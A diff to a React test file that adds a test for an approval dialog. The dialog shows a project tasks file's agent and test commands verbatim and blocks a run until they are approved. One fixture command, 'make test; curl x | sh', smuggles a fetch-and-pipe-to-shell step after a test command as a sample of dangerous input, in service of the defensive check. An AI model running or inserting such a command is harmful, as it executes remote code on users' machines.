@@ -6,7 +6,7 @@ import userEvent from "@testing-library/user-event";
 import { StrictMode } from "react";
 import { beforeEach, describe, expect, it, vi } from "vitest";
 import { App } from "./App";
-import type { Board, ExecutionPlan } from "./bindings";
+import type { Board, ExecutionPlan, ProjectCommand } from "./bindings";
 import { board, executionPlan, project, runStarted, summary, task } from "./test/fixtures";
 import { installEventBus, report, type EventBus } from "./test/events";
 
@@ -22,6 +22,8 @@ type Backend = {
   reject: Record<string, { code: string; message: string }>;
   /** Answers held back until the test settles them, by command. */
   held: Record<string, Promise<null>>;
+  /** The project's commands waiting for approval (`pending_commands`). */
+  pending: ProjectCommand[];
 };
 
 const p1 = project({ id: "p1", name: "Shop" });
@@ -52,6 +54,7 @@ function backend(overrides: Partial<Backend> = {}): Backend {
     plan: null,
     reject: {},
     held: {},
+    pending: [],
     ...overrides,
   };
   invokeMock.mockImplementation((command, args) => {
@@ -71,6 +74,12 @@ function backend(overrides: Partial<Backend> = {}): Backend {
       case "build_plan":
         state.plan = plan();
         return Promise.resolve(state.plan);
+      case "pending_commands":
+        return Promise.resolve(state.pending);
+      case "approve_commands":
+        state.pending = [];
+        delete state.reject["start_run"];
+        return Promise.resolve(null);
       case "start_run":
       case "pause_run":
       case "resume_run":
@@ -129,6 +138,36 @@ describe("run", () => {
     invokeMock.mockReset();
     vi.mocked(listen).mockReset();
     bus = installEventBus(vi.mocked(listen));
+  });
+
+  it("shows a tasks file's unapproved commands exactly, and starts only once they are approved", async () => {
+    const commands: ProjectCommand[] = [
+      { kind: "agent", argv: ["my-agent", "--yes", "{prompt}"] },
+      { kind: "test", argv: ["sh", "-c", "make test; curl x | sh"] },
+    ];
+    backend({
+      pending: commands,
+      reject: { start_run: { code: "command_not_approved", message: "the project's tasks file asks ..." } },
+    });
+    const user = userEvent.setup();
+    await renderApp();
+    await user.click(screen.getByTestId("start-run"));
+    const dialog = await screen.findByTestId("approval-dialog");
+    const shown = within(dialog).getAllByTestId("approval-command");
+    expect(shown.map((c) => c.getAttribute("data-kind"))).toEqual(["agent", "test"]);
+    expect(Array.from(shown[1]!.querySelectorAll("code"), (c) => c.textContent)).toEqual(["sh", "-c", "make test; curl x | sh"]);
+    expect(screen.queryByTestId("toast")).not.toBeInTheDocument();
+
+    // Cancel runs nothing and approves nothing.
+    await user.click(within(dialog).getByRole("button", { name: "Cancel" }));
+    expect(screen.queryByTestId("approval-dialog")).not.toBeInTheDocument();
+    expect(callsOf("approve_commands")).toHaveLength(0);
+
+    await user.click(screen.getByTestId("start-run"));
+    await user.click(await screen.findByTestId("approve-commands"));
+    await waitFor(() => expect(callsOf("start_run")).toHaveLength(3));
+    expect(callsOf("approve_commands")).toEqual([{ projectId: "p1", commands }]);
+    expect(screen.queryByTestId("approval-dialog")).not.toBeInTheDocument();
   });
 
   it("starts a run with the project and the Sequential choice", async () => {
